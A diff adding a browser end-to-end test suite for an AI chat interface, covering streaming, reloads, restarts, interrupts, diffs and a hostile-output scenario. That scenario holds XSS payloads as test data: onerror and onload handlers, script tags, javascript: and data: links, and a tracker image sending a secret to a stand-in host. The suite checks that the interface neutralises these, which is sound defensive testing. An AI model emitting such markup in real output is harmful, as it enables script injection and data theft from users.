@@ -1,0 +1,245 @@
+// The scenarios driver.mjs runs. Each gets the helpers h (page, step,
+// screenshot, result, what left the origin) and throws on a failed check.
+// The "model" is the simulator: [[tool:NAME {json}]] in a message makes it
+// call that tool, and it echoes the rest (docs/simulator.md).
+
+const T = 30_000;
+
+function check(cond, msg) {
+  if (!cond) throw new Error(msg);
+}
+
+async function newConversation(h) {
+  await h.page.goto(h.base + "/");
+  const created = h.page.waitForResponse((r) => r.url().endsWith("/api/conversations") && r.request().method() === "POST");
+  await h.page.getByTestId("new-conversation").click();
+  const { id } = await (await created).json();
+  await h.page.waitForURL((u) => u.pathname === "/c/" + id, { timeout: T });
+  await h.page.locator("[data-kind=notice]").first().waitFor({ timeout: T });
+  await h.page.locator('[data-testid=conn][data-state=live]').waitFor({ timeout: T });
+  return id;
+}
+
+async function sendMessage(h, text) {
+  const box = h.page.getByTestId("composer");
+  await box.fill(text);
+  await box.press("Enter");
+}
+
+/** turnEnds waits for the n-th turn footer (1-based). */
+async function turnEnds(h, n, timeout = T) {
+  await h.page.locator(".turn-footer").nth(n - 1).waitFor({ timeout });
+}
+
+/** inventory is what the DOM shows, by sequence number. */
+async function inventory(h) {
+  return h.page.evaluate(() =>
+    [...document.querySelectorAll("[data-seq]")].map((e) => ({
+      seq: Number(e.getAttribute("data-seq")),
+      kind: e.getAttribute("data-kind"),
+      cmid: e.getAttribute("data-cmid") || undefined,
+      text: e.getAttribute("data-kind") === "tool" ? e.querySelector("[data-testid=tool-output]")?.textContent ?? "" : undefined,
+    })));
+}
+
+function noDuplicates(inv) {
+  const seen = new Set();
+  for (const e of inv) {
+    check(!seen.has(e.seq), `event ${e.seq} (${e.kind}) is shown twice`);
+    seen.add(e.seq);
+  }
+}
+
+const slowBash = (n, pause) =>
+  `[[tool:Bash {"command":"for i in $(seq 1 ${n}); do echo line$i; sleep ${pause}; done"}]]`;
+
+export const scenarios = {
+  // Text and tool output appear while the turn streams; the card names the
+  // command and, once done, its duration; the footer counts tokens.
+  async stream(h) {
+    const id = await newConversation(h);
+    await sendMessage(h, "Count for me, slowly. " + slowBash(6, 0.5));
+    const card = h.page.locator('[data-kind=tool][data-tool=Bash]');
+    await card.locator("[data-testid=tool-output]").filter({ hasText: "line2" }).waitFor({ timeout: T });
+    const mid = await card.getAttribute("data-state");
+    const midOut = await card.locator("[data-testid=tool-output]").textContent();
+    check(mid === "running", `the card is ${mid} while the command runs`);
+    check(!midOut.includes("line6"), "the whole output arrived at once, not while streaming");
+    check(await h.page.locator("[data-kind=text]").first().textContent().then((t) => t.includes("Count for me")),
+      "the model's text did not appear before the tool ran");
+    check((await h.page.locator(".turn-footer").count()) === 0, "a footer before the turn ended");
+    await h.screenshot("streaming");
+    await turnEnds(h, 1);
+    check((await card.getAttribute("data-state")) === "ok", "the card did not end ok");
+    const summary = await card.locator("[data-testid=tool-summary]").textContent();
+    check(summary.includes("for i in $(seq 1 6)"), `the card's summary is ${summary}`);
+    const dur = await card.locator("[data-testid=tool-duration]").textContent();
+    check(/^\d+(\.\d)? (ms|s)$/.test(dur.trim()), `the card's duration is "${dur}"`);
+    const secs = parseFloat(dur);
+    check(dur.includes(" s") && secs >= 2.5, `the command ran ${dur}, want about 3 s`);
+    const out = await card.locator("[data-testid=tool-output]").textContent();
+    check(out.trim() === [1, 2, 3, 4, 5, 6].map((i) => "line" + i).join("\n"), `the output is ${JSON.stringify(out)}`);
+    const tokens = await h.page.locator(".turn-footer [data-testid=tokens]").textContent();
+    check(/[1-9][\d,]* in · [1-9][\d,]* out/.test(tokens), `the footer's tokens: ${tokens}`);
+    const inv = await inventory(h);
+    noDuplicates(inv);
+    h.result({ conversation: id, inventory: inv, tokens, duration: dur });
+  },
+
+  // A reload in the middle of a turn: the page comes back with what it had,
+  // follows the rest, and shows every event once.
+  async reload(h) {
+    const id = await newConversation(h);
+    await sendMessage(h, "Survive a reload. " + slowBash(8, 0.4));
+    const out = h.page.locator("[data-kind=tool] [data-testid=tool-output]");
+    await out.filter({ hasText: "line2" }).waitFor({ timeout: T });
+    await h.screenshot("before-reload");
+    await h.page.reload();
+    await h.page.locator("[data-kind=tool]").waitFor({ timeout: T });
+    await h.screenshot("after-reload");
+    await turnEnds(h, 1);
+    const inv = await inventory(h);
+    noDuplicates(inv);
+    const text = await out.textContent();
+    check(text.trim() === [1, 2, 3, 4, 5, 6, 7, 8].map((i) => "line" + i).join("\n"), `the output after the reload is ${JSON.stringify(text)}`);
+    // The reloaded page did not send the message again.
+    await h.page.waitForTimeout(500);
+    check((await h.page.locator("[data-kind='user.message']").count()) === 1, "the message shows twice");
+    h.result({ conversation: id, inventory: inv });
+  },
+
+  // The control-plane restarts mid-turn: the header says so, the stream
+  // resumes with Last-Event-ID, and the turn finishes with nothing lost.
+  async restart(h) {
+    const id = await newConversation(h);
+    await sendMessage(h, "Survive a redeploy. " + slowBash(10, 0.4));
+    const out = h.page.locator("[data-kind=tool] [data-testid=tool-output]");
+    await out.filter({ hasText: "line2" }).waitFor({ timeout: T });
+    const states = [];
+    await h.page.exposeFunction("__connState", (s) => states.push(s));
+    await h.page.evaluate(() => {
+      const el = document.querySelector("[data-testid=conn]");
+      new MutationObserver(() => window.__connState(el.getAttribute("data-state"))).observe(el, { attributes: true });
+    });
+    await h.step("restart-controlplane");
+    await h.page.locator("[data-testid=conn][data-state=live]").waitFor({ timeout: T });
+    await turnEnds(h, 1, 60_000);
+    await h.screenshot("after-restart");
+    check(states.some((s) => s === "reconnecting" || s === "offline"), `the header never left "live": ${states.join(",")}`);
+    const inv = await inventory(h);
+    noDuplicates(inv);
+    const text = await out.textContent();
+    check(text.trim() === Array.from({ length: 10 }, (_, i) => "line" + (i + 1)).join("\n"), `the output across the restart is ${JSON.stringify(text)}`);
+    h.result({ conversation: id, inventory: inv, states });
+  },
+
+  // Esc during a long Bash: "stopping…" until the turn really ended, then
+  // interrupted; the next message works; one typed during a turn waits in
+  // the queue and goes after it.
+  async interrupt(h) {
+    const id = await newConversation(h);
+    await sendMessage(h, '[[tool:Bash {"command":"echo started; sleep 60"}]]');
+    await h.page.locator("[data-kind=tool] [data-testid=tool-output]").filter({ hasText: "started" }).waitFor({ timeout: T });
+    // The interrupt is held up by the test until it has seen "stopping…".
+    let release;
+    const held = new Promise((r) => (release = r));
+    await h.page.route("**/interrupt", async (route) => {
+      await held;
+      await route.continue();
+    });
+    await h.page.getByTestId("composer").press("Escape");
+    await h.page.getByTestId("turn-status").filter({ hasText: "stopping…" }).waitFor({ timeout: T });
+    await h.screenshot("stopping");
+    check((await h.page.locator(".turn-footer").count()) === 0, "the turn ended before the interrupt reached the server");
+    release();
+    await h.page.locator(".turn-footer[data-code=interrupted]").waitFor({ timeout: T });
+    await h.page.getByTestId("turn-status").filter({ hasNotText: "stopping" }).waitFor({ timeout: T });
+    check((await h.page.locator("[data-kind=tool]").getAttribute("data-state")) === "error", "the interrupted card is not marked failed");
+    await h.screenshot("interrupted");
+
+    await sendMessage(h, "after the interrupt");
+    await turnEnds(h, 2);
+    check((await h.page.locator(".turn-footer").nth(1).getAttribute("data-kind")) === "turn.finished", "the next message's turn did not finish");
+
+    // A message typed while a turn runs is queued, editable, sent after.
+    await sendMessage(h, "first " + slowBash(4, 0.5));
+    await h.page.locator("[data-kind=tool]").nth(1).locator("[data-testid=tool-output]").filter({ hasText: "line1" }).waitFor({ timeout: T });
+    await sendMessage(h, "queued draft");
+    const queued = h.page.getByTestId("queue").locator("input");
+    await queued.waitFor({ timeout: T });
+    await queued.fill("queued message, edited");
+    await h.screenshot("queued");
+    check((await h.page.locator("[data-kind='user.message']").count()) === 3, "the queued message was sent while the turn ran");
+    await turnEnds(h, 4, 60_000);
+    const users = await h.page.locator("[data-kind='user.message']").allTextContents();
+    check(users[3] === "queued message, edited", `the queued message went as ${JSON.stringify(users[3])}`);
+    check((await h.page.getByTestId("queue").count()) === 0, "the queue is not empty");
+    const inv = await inventory(h);
+    noDuplicates(inv);
+    h.result({ conversation: id, inventory: inv });
+  },
+
+  // Hostile model output: raw HTML, a javascript: link, a remote image.
+  // Nothing runs and nothing is requested from another origin.
+  async hostile(h) {
+    const id = await newConversation(h);
+    const attack = [
+      "Look: <img src=x onerror=\"window.__pwned='img'\"> and <script>window.__pwned='script'</script>",
+      "[click me](javascript:window.__pwned='link') and <a href=\"javascript:window.__pwned='a'\">raw</a>",
+      "![tracker](https://exfil.invalid/leak.png?secret=s3cr3t) and <iframe src=\"https://exfil.invalid/\"></iframe>",
+      "<svg onload=\"window.__pwned='svg'\"></svg> [data](data:text/html,<script>alert(1)</script>)",
+      "```js\nconst x = '<img src=x onerror=alert(1)>';\n```",
+    ].join("\n\n");
+    await sendMessage(h, attack);
+    await turnEnds(h, 1);
+    const reply = h.page.locator("[data-kind=text]").first();
+    await reply.waitFor({ timeout: T });
+    // Click what looks like links.
+    // Click what would run script if it were a link; links to web sites
+    // are the user's to follow and not clicked here.
+    for (const a of await reply.locator("a:not([href^='http'])").all()) await a.click({ timeout: 2000 }).catch(() => {});
+    await h.page.waitForTimeout(500);
+    const pwned = await h.page.evaluate(() => window.__pwned);
+    check(pwned === undefined, `model output ran script: ${pwned}`);
+    const bad = await reply.evaluate((el) => ({
+      handlers: [...el.querySelectorAll("*")].filter((n) => [...n.attributes].some((a) => a.name.startsWith("on"))).length,
+      scripts: el.querySelectorAll("script, iframe, svg, object, embed").length,
+      jsLinks: [...el.querySelectorAll("a[href]")].filter((a) => !/^(https?:|mailto:|#|\/)/i.test(a.getAttribute("href"))).length,
+      foreignImages: [...el.querySelectorAll("img")].filter((i) => !i.src.startsWith(location.origin) && !i.src.startsWith("data:")).length,
+      text: el.textContent,
+    }));
+    check(bad.handlers === 0 && bad.scripts === 0 && bad.jsLinks === 0 && bad.foreignImages === 0,
+      `dangerous markup survived: ${JSON.stringify(bad)}`);
+    check(bad.text.includes("<img src=x onerror="), "the raw HTML is not shown as text");
+    check(bad.text.includes("image not loaded"), "the remote image is not shown as blocked");
+    check(h.foreign.length === 0, `requests left the origin: ${h.foreign.join(", ")}`);
+    check((await h.page.locator(".hljs-string, .hljs-keyword").count()) > 0, "the code block is not highlighted");
+    await h.screenshot("hostile");
+    h.result({ conversation: id, foreign: h.foreign, csp: h.cspViolations });
+  },
+
+  // An Edit shows as a diff, the Changes view lists the file, an issue
+  // Mara files appears.
+  async edit(h) {
+    const id = await newConversation(h);
+    await sendMessage(h, '[[tool:Write {"file_path":"notes.txt","content":"alpha\\nbeta\\n"}]]');
+    await turnEnds(h, 1);
+    await sendMessage(h, '[[tool:Edit {"file_path":"notes.txt","old_string":"beta","new_string":"gamma"}]]');
+    await turnEnds(h, 2);
+    const diff = h.page.locator("[data-tool=Edit] [data-testid=diff]");
+    const del = await diff.locator(".line.del").allTextContents();
+    const add = await diff.locator(".line.add").allTextContents();
+    check(del.join("").includes("- beta") && add.join("").includes("+ gamma"), `the Edit's diff: -${JSON.stringify(del)} +${JSON.stringify(add)}`);
+    const changes = await h.page.getByTestId("changes").textContent();
+    check(changes.includes("notes.txt") && changes.includes("2 edits"), `the Changes view: ${changes}`);
+    await h.screenshot("diff");
+
+    await sendMessage(h, 'File it. [[tool:mcp__talkide-issue-tracking__report_issue {"title":"Flaky browser test","body":"It fails one run in ten.","severity":"high","labels":["ci"]}]]');
+    await turnEnds(h, 3);
+    await h.page.getByTestId("issues-tab").click();
+    await h.page.getByTestId("issues").filter({ hasText: "Flaky browser test" }).waitFor({ timeout: T });
+    await h.screenshot("issue");
+
+    h.result({ conversation: id });
+  },
+};
